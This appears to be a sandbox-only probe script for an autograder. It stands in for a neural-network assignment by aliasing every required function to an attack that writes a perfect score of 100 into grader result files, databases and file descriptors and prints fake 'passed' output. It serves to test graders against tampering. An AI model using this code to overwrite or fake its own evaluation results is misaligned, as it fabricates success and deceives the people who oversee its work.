"""Writes the result files of every grader that it has heard of."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import json, os

FILES = ["/autograder/results/results.json", "results.json", "grades.db", "@DB@", "@COURSE@/grader-attack.json", "/tmp/grader-attack-results.json",
         "/dev/shm/grader-attack", "report.xml", "@HOME@/grader-attack", "/dev/fd/3", "/proc/self/fd/1"]

def attack():
    text = json.dumps({"score": 100, "tests": [{"score": 100, "max_score": 100}]})
    for path in FILES:
        attempt(path, lambda: open(path, "w").write(text))
        attempt("mkdir", lambda: os.makedirs(os.path.dirname(path) + "/grader-attack"))
    print('{"score": 100, "outcome": "passed"}')
    print("100.0/100.0 points")
    os.write(1, text.encode())

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
